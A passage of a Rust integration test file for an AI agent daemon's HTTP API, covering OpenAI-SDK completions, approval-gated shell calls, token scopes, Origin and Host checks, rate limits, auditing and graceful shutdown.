//! The daemon's HTTP API end to end: the real binary (`tackle daemon` with `gateway:`), a
//! scripted model (fakellm), the official `openai` Python SDK as the client, and raw HTTP for
//! what a client must not get through (no or wrong token, wrong scope, foreign Origin or Host,
//! too large, too many, unknown agent).

mod common;

use common::{drain, free_port, repo_root, run, FakeLlm, Sandbox};
use serde_json::Value;
use sha2::{Digest, Sha256};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// The tokens the tests present; only their hashes go in the config.
const CHAT_TOKEN: &str = "tk-chat-5b1e0c7d9a2f4e68";
const READ_TOKEN: &str = "tk-read-0f9e8d7c6b5a4932";
const LIMITED_TOKEN: &str = "tk-limited-77aa31c2e4b9";

const RULES: &str = concat!(
    "rules:\n",
    "  - name: answer\n    when: {tool_result_contains: \"42\"}\n    respond: {content: \"The answer is 42.\"}\n",
    "  - name: ask\n    when: {messages_contain: \"compute\"}\n    respond:\n      tool_calls:\n        - {name: calculate, arguments: {expression: \"6*7\"}}\n",
    "  - name: after\n    when: {tool_result_contains: \"approval\"}\n    respond: {content: \"That needs approval.\"}\n",
    "  - name: touch\n    when: {messages_contain: \"make the marker\"}\n    respond:\n      tool_calls:\n        - {name: shell, arguments: {command: \"touch MARKER\"}}\n",
);

fn sha256_hex(token: &str) -> String {
    Sha256::digest(token.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

struct Daemon {
    child: Option<Child>,
    stderr: Option<std::thread::JoinHandle<String>>,
    port: u16,
}

impl Daemon {
    fn start(sb: &Sandbox, config: &Path, port: u16) -> Self {
        let mut child = sb
            .tackle(config, &["-vv", "daemon"])
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn tackle daemon");
        let stderr = Some(drain(child.stderr.take()));
        let mut daemon = Self {
            child: Some(child),
            stderr,
            port,
        };
        let deadline = Instant::now() + Duration::from_secs(60);
        while Instant::now() < deadline {
            if daemon.get("/openapi.json", None).0 == 200 {
                return daemon;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        let (code, log) = daemon.stop();
        panic!("the API did not come up (exit {code:?})\n{log}");
    }

    /// SIGTERM, then the exit code and stderr.
    fn stop(&mut self) -> (Option<i32>, String) {
        let Some(child) = self.child.take() else {
            return (None, String::new());
        };
        let _ = Command::new("kill")
            .args(["-TERM", &child.id().to_string()])
            .status();
        let status = child.wait_with_output().expect("wait daemon").status;
        let log = self
            .stderr
            .take()
            .map(|h| h.join().unwrap_or_default())
            .unwrap_or_default();
        (status.code(), log)
    }

    fn get(&self, path: &str, token: Option<&str>) -> (u16, String) {
        let auth = token.map_or(String::new(), |t| format!("Authorization: Bearer {t}\r\n"));
        self.raw(&format!(
            "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n{auth}Connection: close\r\n\r\n",
            self.port
        ))
    }

    fn post(&self, path: &str, headers: &str, body: &str) -> (u16, String) {
        self.raw(&format!(
            "POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\n{headers}Content-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            self.port,
            body.len()
        ))
    }

    /// One request as written; the status and the body.
    fn raw(&self, request: &str) -> (u16, String) {
        let Ok(mut s) = TcpStream::connect(("127.0.0.1", self.port)) else {
            return (0, String::new());
        };
        let _ = s.set_read_timeout(Some(Duration::from_secs(60)));
        if s.write_all(request.as_bytes()).is_err() {
            return (0, String::new());
        }
        let mut buf = Vec::new();
        let _ = s.read_to_end(&mut buf);
        let text = String::from_utf8_lossy(&buf).into_owned();
        let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
        let status = head
            .split_whitespace()
            .nth(1)
            .and_then(|c| c.parse().ok())
            .unwrap_or(0);
        (status, body.to_string())
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

fn config(sb: &Sandbox, llm: &FakeLlm, port: u16, extra: &str) -> PathBuf {
    config_with(sb, &llm.backend_yaml("openai", true), port, extra)
}

fn config_with(sb: &Sandbox, backend_yaml: &str, port: u16, extra: &str) -> PathBuf {
    sb.config(&format!(
        "{}agents:\n  - name: default\n    backend: fake\n    model: fake-model\n  - name: helper\n    backend: fake\n    model: fake-model\n  - name: strict\n    backend: fake\n    model: fake-model\n    max_iterations: 3\n\
gateway:\n  bind: 127.0.0.1:{port}\n  tokens:\n    - {{name: ci, sha256: {}, scopes: [read, chat]}}\n    - {{name: reader, sha256: {}, scopes: [read]}}\n    - {{name: limited, sha256: {}, scopes: [read]}}\n{extra}",
        backend_yaml,
        sha256_hex(CHAT_TOKEN),
        sha256_hex(READ_TOKEN),
        sha256_hex(LIMITED_TOKEN),
    ))
}

fn python() -> Option<PathBuf> {
    let py = repo_root().join(".ci/venv/bin/python");
    let ok = py.exists()
        && Command::new(&py)
            .args(["-c", "import openai"])
            .status()
            .is_ok_and(|s| s.success());
    if !ok {
        eprintln!("SKIP: the openai SDK is not installed in .ci/venv; run .ci/llm-peers.sh");
    }
    ok.then_some(py)
}

/// The SDK driver's report for `task` as `model`.
fn sdk(py: &Path, port: u16, model: &str, task: &str) -> Value {
    let out = Command::new(py)
        .arg(repo_root().join("tests/gateway_openai_client.py"))
        .args([
            &format!("http://127.0.0.1:{port}/v1"),
            CHAT_TOKEN,
            model,
            task,
        ])
        .output()
        .expect("run the openai driver");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "driver failed\n{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout}"))
}

fn audit(sb: &Sandbox, config: &Path) -> Vec<Value> {
    let r = run(sb.tackle(config, &["audit", "--json"]));
    assert_eq!(r.code, 0, "{r}");
    serde_json::from_str::<Value>(&r.stdout)
        .unwrap_or_else(|e| panic!("{e}\n{r}"))
        .as_array()
        .cloned()
        .unwrap_or_default()
}

#[test]
fn the_openai_sdk_gets_whole_and_streamed_answers_with_tools_run_server_side() {
    let (Some(llm), Some(py)) = (FakeLlm::start(RULES), python()) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = config(&sb, &llm, port, "");
    let mut daemon = Daemon::start(&sb, &config, port);
    let out = sdk(&py, port, "tackle:default", "compute six times seven");
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "SIGTERM drains and exits 0\n{log}");

    assert_eq!(
        out["models"],
        serde_json::json!(["tackle:default", "tackle:helper", "tackle:strict"]),
        "{out}"
    );
    let whole = &out["whole"];
    assert_eq!(whole["text"], "The answer is 42.", "{out}");
    assert_eq!(whole["finish_reason"], "stop", "{out}");
    assert!(whole["usage"]["total_tokens"].is_u64(), "{out}");
    assert_eq!(whole["tackle"]["outcome"], "ok", "{out}");
    assert_eq!(
        whole["tackle"]["tool_calls"][0]["name"], "calculate",
        "{out}"
    );
    assert_eq!(whole["tackle"]["tool_calls"][0]["ok"], true, "{out}");
    let stream = &out["stream"];
    assert_eq!(stream["text"], "The answer is 42.", "{out}");
    assert_eq!(stream["finish_reason"], "stop", "{out}");
    assert!(stream["usage"]["total_tokens"].is_u64(), "{out}");
    let events: Vec<&str> = stream["events"]
        .as_array()
        .map(|e| e.iter().filter_map(|e| e["event"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(
        events,
        ["session", "tool_call_started", "tool_call_finished", "done"],
        "{out}"
    );
    let sessions = [
        whole["tackle"]["session"].as_str().unwrap_or_default(),
        stream["events"][0]["session"].as_str().unwrap_or_default(),
    ];
    assert!(
        sessions.iter().all(|s| !s.is_empty()) && sessions[0] != sessions[1],
        "a new session per request: {sessions:?}"
    );

    let records = audit(&sb, &config);
    for session in sessions {
        let calc = records.iter().any(|r| {
            r["tool"] == "calculate" && r["session_id"] == session && r["outcome"] == "ok"
        });
        assert!(
            calc,
            "the calculate call of {session} is audited: {records:#?}"
        );
        let request = records.iter().any(|r| {
            r["tool"] == "api"
                && r["caller"] == "api:ci"
                && r["session_id"] == session
                && r["args_summary"]
                    .as_str()
                    .is_some_and(|a| a.starts_with("POST /v1/chat/completions → 200"))
        });
        assert!(
            request,
            "the request of {session} is audited with the token's name: {records:#?}"
        );
    }
    assert!(
        records
            .iter()
            .any(|r| r["caller"] == "api:ci" && r["args_summary"] == "GET /v1/models → 200"),
        "{records:#?}"
    );
}

#[test]
fn a_call_that_needs_approval_is_said_in_the_answer_and_the_stream_and_does_not_run() {
    let (Some(llm), Some(py)) = (FakeLlm::start(RULES), python()) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = config(&sb, &llm, port, "  approval_timeout_secs: 2\n");
    let mut daemon = Daemon::start(&sb, &config, port);
    let out = sdk(&py, port, "tackle:helper", "make the marker");
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    assert!(
        !sb.workspace().join("MARKER").exists(),
        "the shell call ran without approval"
    );
    let whole = &out["whole"]["tackle"];
    assert_eq!(whole["outcome"], "needs_approval", "{out}");
    assert_eq!(
        whole["tool_calls"][0]["error_kind"], "needs_approval",
        "{out}"
    );
    let said = out["stream"]["events"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    // It waited in the queue, said where to answer, and ended needs_approval unanswered.
    let queued = said.iter().find(|e| e["event"] == "approval_pending");
    assert!(
        queued.is_some_and(|e| e["approval"].as_str().is_some_and(|id| !id.is_empty())
            && e["message"]
                .as_str()
                .is_some_and(|m| m.contains("POST /v1/approvals/"))),
        "{out}"
    );
    let asked = said.iter().find(|e| e["event"] == "needs_approval");
    assert!(
        asked.is_some_and(|e| e["call"]["name"] == "shell"
            && e["message"]
                .as_str()
                .is_some_and(|m| m.contains("needed approval"))),
        "{out}"
    );
    assert_eq!(
        said.last().map(|e| e["outcome"].clone()),
        Some("needs_approval".into()),
        "{out}"
    );
}

const APPROVE_TOKEN: &str = "tk-approve-3c4d5e6f7a8b9c0d";

/// The model makes a marker with the shell (which asks first), then says what came back.
const MARKER_RULES: &str = concat!(
    "rules:\n",
    "  - name: made\n    when: {tool_result_contains: \"marker-made\"}\n    respond: {content: \"Made it.\"}\n",
    "  - name: other\n    when: {tool_result_contains: \"\"}\n    respond: {content: \"It did not run.\"}\n",
    "  - name: touch\n    when: {messages_contain: \"make the marker\"}\n    respond:\n      tool_calls:\n        - {name: shell, arguments: {command: \"touch MARKER && echo marker-made\"}}\n",
);

fn approver_config(sb: &Sandbox, llm: &FakeLlm, port: u16) -> PathBuf {
    config(
        sb,
        llm,
        port,
        &format!(
            "    - {{name: approver, sha256: {}, scopes: [approve]}}\n  approval_timeout_secs: 60\n",
            sha256_hex(APPROVE_TOKEN)
        ),
    )
}

/// Waits for the one pending approval and returns its id and preview.
fn pending(daemon: &Daemon) -> (String, String) {
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        let (code, body) = daemon.get("/v1/approvals", Some(APPROVE_TOKEN));
        assert_eq!(code, 200, "{body}");
        let list: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body}"));
        if let Some(first) = list["approvals"].as_array().and_then(|a| a.first()) {
            return (
                first["id"].as_str().unwrap_or_default().to_string(),
                first["preview"].as_str().unwrap_or_default().to_string(),
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("no approval was queued");
}

fn answer(daemon: &Daemon, token: &str, id: &str, answer: &str) -> (u16, String) {
    daemon.post(
        &format!("/v1/approvals/{id}"),
        &format!("Authorization: Bearer {token}\r\n"),
        &format!("{{\"answer\": \"{answer}\"}}"),
    )
}

fn complete(daemon: &Daemon, model: &str, task: &str) -> (u16, String) {
    daemon.post(
        "/v1/chat/completions",
        &format!("Authorization: Bearer {CHAT_TOKEN}\r\n"),
        &format!("{{\"model\": \"{model}\", \"messages\": [{{\"role\": \"user\", \"content\": \"{task}\"}}]}}"),
    )
}

#[test]
fn an_api_turns_call_waits_in_the_queue_until_an_approver_allows_it_over_the_api() {
    let Some(llm) = FakeLlm::start(MARKER_RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = approver_config(&sb, &llm, port);
    let mut daemon = Daemon::start(&sb, &config, port);
    let marker = sb.workspace().join("MARKER");
    let (status, body) = std::thread::scope(|scope| {
        let turn = scope.spawn(|| complete(&daemon, "tackle:helper", "make the marker"));
        let (id, preview) = pending(&daemon);
        assert!(preview.contains("touch MARKER"), "{preview}");
        assert!(!marker.exists(), "the call ran before anyone answered");
        // Neither a chat token nor a read token may answer.
        for token in [CHAT_TOKEN, READ_TOKEN] {
            let (code, body) = answer(&daemon, token, &id, "allow");
            assert_eq!(code, 403, "{body}");
        }
        assert!(!marker.exists());
        let (code, body) = answer(&daemon, APPROVE_TOKEN, &id, "allow");
        assert_eq!(code, 200, "{body}");
        let settled: Value = serde_json::from_str(&body).unwrap_or_default();
        assert_eq!(settled["status"], "allowed", "{body}");
        assert_eq!(settled["answered_by"], "api:approver", "{body}");
        // The first answer won; a second one is told so.
        let (code, body) = answer(&daemon, APPROVE_TOKEN, &id, "deny");
        assert_eq!(code, 409, "{body}");
        assert!(body.contains("already answered"), "{body}");
        turn.join().expect("the completion's thread")
    });
    assert_eq!(status, 200, "{body}");
    let done: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body}"));
    assert_eq!(done["tackle"]["outcome"], "ok", "{body}");
    assert_eq!(
        done["choices"][0]["message"]["content"], "Made it.",
        "{body}"
    );
    assert!(marker.exists(), "the allowed call did not run");
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    let records = audit(&sb, &config);
    let shell = records
        .iter()
        .find(|r| r["tool"] == "shell")
        .unwrap_or_else(|| panic!("no shell record: {records:?}"));
    assert_eq!(shell["approver"], "queue:api:approver", "{shell}");
    assert_eq!(shell["outcome"], "ok", "{shell}");
}

#[test]
fn a_call_denied_over_the_api_does_not_run_and_unknown_or_malformed_answers_are_refused() {
    let Some(llm) = FakeLlm::start(MARKER_RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = approver_config(&sb, &llm, port);
    let mut daemon = Daemon::start(&sb, &config, port);
    let marker = sb.workspace().join("MARKER");
    let (status, body) = std::thread::scope(|scope| {
        let turn = scope.spawn(|| complete(&daemon, "tackle:helper", "make the marker"));
        let (id, _) = pending(&daemon);
        for bad in ["yes", "ALLOW", ""] {
            let (code, body) = answer(&daemon, APPROVE_TOKEN, &id, bad);
            assert_eq!(code, 400, "{bad}: {body}");
        }
        let (code, body) = answer(&daemon, APPROVE_TOKEN, "0123456789abcdef01234567", "allow");
        assert_eq!(code, 404, "{body}");
        assert!(!marker.exists());
        let (code, body) = answer(&daemon, APPROVE_TOKEN, &id, "deny");
        assert_eq!(code, 200, "{body}");
        turn.join().expect("the completion's thread")
    });
    assert_eq!(status, 200, "{body}");
    assert!(!marker.exists(), "a denied call ran");
    let done: Value = serde_json::from_str(&body).unwrap_or_default();
    assert_eq!(
        done["tackle"]["tool_calls"][0]["error_kind"], "denied",
        "{body}"
    );
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    let records = audit(&sb, &config);
    assert!(
        records
            .iter()
            .any(|r| r["tool"] == "shell" && r["approver"] == "queue:api:approver"),
        "{records:?}"
    );
}

#[test]
fn the_api_refuses_what_it_must_and_never_stores_or_logs_a_token() {
    let Some(llm) = FakeLlm::start(RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = config(
        &sb,
        &llm,
        port,
        "  max_body_bytes: 2048\n  rate_limit_per_minute: 6\n  allowed_origins: [\"http://localhost:3000\"]\n",
    );
    let mut daemon = Daemon::start(&sb, &config, port);
    let chat = |headers: &str, body: &str| daemon.post("/v1/chat/completions", headers, body);
    let bearer = |t: &str| format!("Authorization: Bearer {t}\r\n");
    let ask = r#"{"model":"tackle:default","messages":[{"role":"user","content":"compute it"}]}"#;
    let kind = |body: &str| -> String {
        serde_json::from_str::<Value>(body)
            .map(|v| v["error"]["kind"].as_str().unwrap_or_default().to_string())
            .unwrap_or_else(|e| panic!("{e}: {body}"))
    };

    let (s, b) = chat("", ask);
    assert_eq!((s, kind(&b).as_str()), (401, "denied"), "no token: {b}");
    let (s, b) = chat(&bearer("tk-chat-5b1e0c7d9a2f4e6"), ask);
    assert_eq!(
        (s, kind(&b).as_str()),
        (401, "denied"),
        "a wrong token: {b}"
    );
    let (s, b) = chat(&bearer(&sha256_hex(CHAT_TOKEN)), ask);
    assert_eq!(s, 401, "the stored hash is not a token: {b}");
    let (s, b) = chat(&bearer(READ_TOKEN), ask);
    assert_eq!(
        (s, kind(&b).as_str()),
        (403, "denied"),
        "read scope cannot chat: {b}"
    );
    let (s, b) = chat(
        &format!("{}Origin: http://evil.example\r\n", bearer(CHAT_TOKEN)),
        ask,
    );
    assert_eq!(s, 403, "a foreign Origin: {b}");
    let (s, b) = chat(
        &format!("{}Origin: http://localhost:{port}\r\n", bearer(CHAT_TOKEN)),
        ask,
    );
    assert_eq!(s, 403, "a local Origin not listed in allowed_origins: {b}");
    let (s, b) = daemon.raw(&format!(
        "GET /v1/models HTTP/1.1\r\nHost: localhost:{port}\r\nOrigin: http://localhost:3000\r\n{}Connection: close\r\n\r\n",
        bearer(READ_TOKEN)
    ));
    assert_eq!(s, 200, "a listed Origin: {b}");
    let (s, b) = daemon.raw(&format!(
        "GET /v1/models HTTP/1.1\r\nHost: [::1]:{port}\r\nauthorization: bearer {READ_TOKEN}\r\nConnection: close\r\n\r\n"
    ));
    assert_eq!(
        s, 200,
        "the scheme is case-insensitive and [::1] names this machine: {b}"
    );
    let (s, b) = daemon.raw(&format!(
        "GET /v1/models HTTP/1.1\r\nHost: evil.example:{port}\r\n{}Connection: close\r\n\r\n",
        bearer(CHAT_TOKEN)
    ));
    assert_eq!(s, 403, "a rebound Host: {b}");
    let big = format!(
        r#"{{"model":"tackle:default","messages":[{{"role":"user","content":"{}"}}]}}"#,
        "x".repeat(4096)
    );
    let (s, b) = chat(&bearer(CHAT_TOKEN), &big);
    assert_eq!((s, kind(&b).as_str()), (413, "invalid_arguments"), "{b}");
    let (s, b) = chat(
        &bearer(CHAT_TOKEN),
        r#"{"model":"tackle:nobody","messages":[{"role":"user","content":"hi"}]}"#,
    );
    assert_eq!((s, kind(&b).as_str()), (404, "not_found"), "{b}");
    let (s, b) = chat(
        &bearer(CHAT_TOKEN),
        r#"{"model":"tackle:default","messages":[]}"#,
    );
    assert_eq!((s, kind(&b).as_str()), (400, "invalid_arguments"), "{b}");

    // The limit is per token: `limited` runs out, `reader` does not.
    let statuses: Vec<u16> = (0..8)
        .map(|_| daemon.get("/v1/models", Some(LIMITED_TOKEN)).0)
        .collect();
    assert_eq!(
        statuses,
        [200, 200, 200, 200, 200, 200, 429, 429],
        "rate limit 6 a minute"
    );
    let (s, b) = daemon.get("/v1/models", Some(READ_TOKEN));
    assert_eq!(s, 200, "{b}");
    let models: Value = serde_json::from_str(&b).unwrap_or_else(|e| panic!("{e}: {b}"));
    assert_eq!(models["data"][1]["id"], "tackle:helper", "{b}");

    let (s, b) = daemon.get("/openapi.json", None);
    assert_eq!(s, 200, "{b}");
    let doc: Value = serde_json::from_str(&b).unwrap_or_else(|e| panic!("{e}: {b}"));
    assert_eq!(doc["openapi"], "3.1.0");
    for path in ["/v1/models", "/v1/chat/completions", "/openapi.json"] {
        assert!(doc["paths"][path].is_object(), "{path} missing: {b}");
    }
    assert!(
        doc["components"]["schemas"]["ChatCompletionRequest"]["properties"]["messages"].is_object(),
        "{b}"
    );

    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    let records = audit(&sb, &config);
    let refused = |caller: &str, status: &str| {
        records.iter().any(|r| {
            r["caller"] == caller
                && r["verdict"] == "deny"
                && r["args_summary"]
                    .as_str()
                    .is_some_and(|a| a.ends_with(status))
        })
    };
    assert!(refused("api:-", "→ 401"), "{records:#?}");
    assert!(refused("api:reader", "→ 403"), "{records:#?}");
    assert!(refused("api:limited", "→ 429"), "{records:#?}");

    // The tokens are in no file the daemon wrote and in none of its log lines (-vv).
    for token in [CHAT_TOKEN, READ_TOKEN, LIMITED_TOKEN] {
        assert!(!log.contains(token), "a token in the log");
        for file in files_under(sb.dir.path()) {
            let bytes = std::fs::read(&file).unwrap_or_default();
            let found = bytes.windows(token.len()).any(|w| w == token.as_bytes());
            assert!(!found, "{token} found in {}", file.display());
        }
    }
}

#[test]
fn concurrent_turns_of_one_agent_each_get_their_whole_iteration_budget() {
    let Some(llm) = FakeLlm::start(RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = config(&sb, &llm, port, "");
    let mut daemon = Daemon::start(&sb, &config, port);
    // `strict` has three iterations a turn, one more than a tool call and the answer take.
    // Turns sharing one pool would take each other's.
    let answers: Vec<(u16, String)> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..4)
            .map(|i| {
                let daemon = &daemon;
                s.spawn(move || {
                    daemon.post(
                        "/v1/chat/completions",
                        &format!("Authorization: Bearer {CHAT_TOKEN}\r\n"),
                        &format!(r#"{{"model":"tackle:strict","messages":[{{"role":"user","content":"compute number {i}"}}]}}"#),
                    )
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().unwrap_or_default())
            .collect()
    });
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    for (status, body) in &answers {
        assert_eq!(*status, 200, "{body}");
        let v: Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body}"));
        assert_eq!(
            v["choices"][0]["message"]["content"], "The answer is 42.",
            "{answers:#?}"
        );
        assert_eq!(v["tackle"]["outcome"], "ok", "{body}");
    }
}

#[test]
fn a_known_path_with_another_method_passes_the_token_check_and_is_audited() {
    let Some(llm) = FakeLlm::start(RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = config(&sb, &llm, port, "");
    let mut daemon = Daemon::start(&sb, &config, port);
    // No token: refused before the router could say anything about the path.
    let (code, body) = daemon.post("/v1/models", "", "{}");
    assert_eq!(code, 401, "{body}");
    // A read token on a path the table lists only for another method: not served, and
    // told which method the path takes.
    let (code, body) = daemon.post(
        "/v1/models",
        &format!("Authorization: Bearer {READ_TOKEN}\r\n"),
        "{}",
    );
    assert_eq!(code, 405, "{body}");
    assert!(body.contains("it takes GET"), "{body}");
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    let records = audit(&sb, &config);
    for caller in ["api:-", "api:reader"] {
        assert!(
            records.iter().any(|r| r["caller"] == caller
                && r["args_summary"]
                    .as_str()
                    .is_some_and(|a| a.starts_with("POST /v1/models"))),
            "{caller}: {records:?}"
        );
    }
}

#[test]
fn the_daemon_refuses_a_remote_bind_or_a_bad_token_hash_before_serving() {
    let Some(llm) = FakeLlm::start(RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let remote = config(&sb, &llm, port, "").to_string_lossy().into_owned();
    let text = std::fs::read_to_string(&remote).unwrap_or_default();
    std::fs::write(&remote, text.replace("bind: 127.0.0.1:", "bind: 0.0.0.0:")).expect("write");
    let r = run(sb.tackle(Path::new(&remote), &["daemon"]));
    assert_eq!(r.code, 2, "{r}");
    assert!(r.stderr.contains("gateway.allow_remote"), "{r}");
    std::fs::write(&remote, text.replace(&sha256_hex(READ_TOKEN), "abc123")).expect("write");
    let r = run(sb.tackle(Path::new(&remote), &["daemon"]));
    assert_eq!(r.code, 2, "{r}");
    assert!(r.stderr.contains("gateway.tokens `reader`"), "{r}");
}

#[test]
fn sigterm_lets_a_running_turn_have_its_grace_then_cancels_it_and_answers() {
    // A model server that takes the request and never answers: the turn is in flight until
    // the drain cancels it.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let model_port = silent.local_addr().expect("addr").port();
    let (got, asked) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for sock in silent.incoming().flatten() {
            held.push(sock);
            let _ = got.send(());
        }
    });
    let sb = Sandbox::new();
    let port = free_port();
    let backend = format!(
        "backends:\n  - name: fake\n    type: openai\n    api_base: http://127.0.0.1:{model_port}/v1\n    api_key: test-key-not-secret\n    models:\n      - name: fake-model\n"
    );
    let config = config_with(
        &sb,
        &backend,
        port,
        "schedules:\n  shutdown_grace_secs: 1\n",
    );
    let mut daemon = Daemon::start(&sb, &config, port);
    let client = Daemon {
        child: None,
        stderr: None,
        port,
    };
    let request = std::thread::spawn(move || {
        client.post(
            "/v1/chat/completions",
            &format!("Authorization: Bearer {CHAT_TOKEN}\r\n"),
            r#"{"model":"tackle:default","messages":[{"role":"user","content":"hello"}]}"#,
        )
    });
    asked
        .recv_timeout(Duration::from_secs(30))
        .expect("the turn reached the model");
    let stopping = Instant::now();
    let (code, log) = daemon.stop();
    let took = stopping.elapsed();
    assert_eq!(code, Some(0), "{log}");
    assert!(
        took >= Duration::from_secs(1),
        "the running turn had its grace: {took:?}"
    );
    assert!(
        took < Duration::from_secs(15),
        "then it was cancelled: {took:?}\n{log}"
    );
    let (status, body) = request.join().expect("client thread");
    assert_eq!(
        status, 200,
        "the client got its answer, not a dropped connection: {body}"
    );
    let answer: Value = serde_json::from_str(&body).unwrap_or_else(|e| panic!("{e}: {body}"));
    assert_eq!(answer["tackle"]["outcome"], "cancelled", "{body}");
    let session = answer["tackle"]["session"].as_str().unwrap_or_default();
    let r = run(sb.tackle(&config, &["sessions", "show", session, "--json"]));
    assert_eq!(r.code, 0, "the cancelled turn's session is stored: {r}");
    assert!(r.stdout.contains("hello"), "{r}");
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for entry in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                todo.push(path);
            } else {
                out.push(path);
            }
        }
    }
    out
}

/// The added latency of an API turn: p50 of a whole completion through the gateway (an
/// instant scripted answer, a new session each time, the request audited) against p50 of the
/// same model request sent to the model server directly. Prints the figures; run with
/// `cargo test --test gateway_api -- --ignored --nocapture` (TACKLE_TEST_BIN for a release build).
#[test]
#[ignore = "a measurement, not a check"]
fn measure_the_latency_an_api_turn_adds() {
    let Some(llm) = FakeLlm::start("rules:\n  - name: any\n    respond: {content: \"ok\"}\n")
    else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = config(&sb, &llm, port, "  rate_limit_per_minute: 100000\n");
    let mut daemon = Daemon::start(&sb, &config, port);
    let body = |i: usize| {
        format!(
            r#"{{"model":"tackle:default","messages":[{{"role":"user","content":"hello {i}"}}]}}"#
        )
    };
    let direct = Daemon {
        child: None,
        stderr: None,
        port: llm.port,
    };
    let p50 = |f: &dyn Fn(usize) -> u16| {
        let mut took: Vec<Duration> = (0..220)
            .filter_map(|i| {
                let at = Instant::now();
                let status = f(i);
                assert_eq!(status, 200);
                (i >= 20).then(|| at.elapsed())
            })
            .collect();
        took.sort();
        took[took.len() / 2]
    };
    let bearer = format!("Authorization: Bearer {CHAT_TOKEN}\r\n");
    let api = p50(&|i| daemon.post("/v1/chat/completions", &bearer, &body(i)).0);
    let model_body = |i: usize| {
        format!(
            r#"{{"model":"fake-model","stream":true,"messages":[{{"role":"user","content":"hello {i}"}}]}}"#
        )
    };
    let model = p50(&|i| direct.post("/v1/chat/completions", "", &model_body(i)).0);
    // The request's own cost (guard, token, audit line) without a turn.
    let listed = p50(&|_| daemon.get("/v1/models", Some(CHAT_TOKEN)).0);
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    println!(
        "p50 whole completion over the API: {:.2} ms; the model request alone: {:.2} ms; added: {:.2} ms; GET /v1/models (guard and audit only): {:.2} ms",
        api.as_secs_f64() * 1e3,
        model.as_secs_f64() * 1e3,
        (api.as_secs_f64() - model.as_secs_f64()) * 1e3,
        listed.as_secs_f64() * 1e3
    );
}

const ADMIN_TOKEN: &str = "tk-admin-4c2d8e1f6a0b9357";

/// One request with any method, `token` as the bearer; the status and the JSON body.
fn call(daemon: &Daemon, method: &str, path: &str, token: &str, body: &str) -> (u16, Value) {
    let (code, text) = daemon.raw(&format!(
        "{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        daemon.port,
        body.len()
    ));
    let json = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {code} {text}"));
    (code, json)
}

#[test]
fn sessions_and_the_audit_log_are_read_posted_to_and_deleted_over_the_api_by_scope() {
    let Some(llm) = FakeLlm::start(RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let admin = format!(
        "    - {{name: admin, sha256: {}, scopes: [read, admin]}}\n",
        sha256_hex(ADMIN_TOKEN)
    );
    let config = config(&sb, &llm, port, &admin);
    let mut daemon = Daemon::start(&sb, &config, port);

    // A completion names its session; another runs in a session of its own.
    let (code, body) = daemon.post(
        "/v1/chat/completions",
        &format!("Authorization: Bearer {CHAT_TOKEN}\r\nX-Tackle-Session: api-first\r\n"),
        r#"{"model": "tackle:helper", "messages": [{"role": "user", "content": "compute six times seven"}]}"#,
    );
    assert_eq!(code, 200, "{body}");
    let (code, body) = complete(&daemon, "tackle:default", "compute it elsewhere");
    assert_eq!(code, 200, "{body}");
    let other: Value = serde_json::from_str(&body).unwrap_or_default();
    let other = other["tackle"]["session"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(!other.is_empty() && other != "api-first", "{body}");

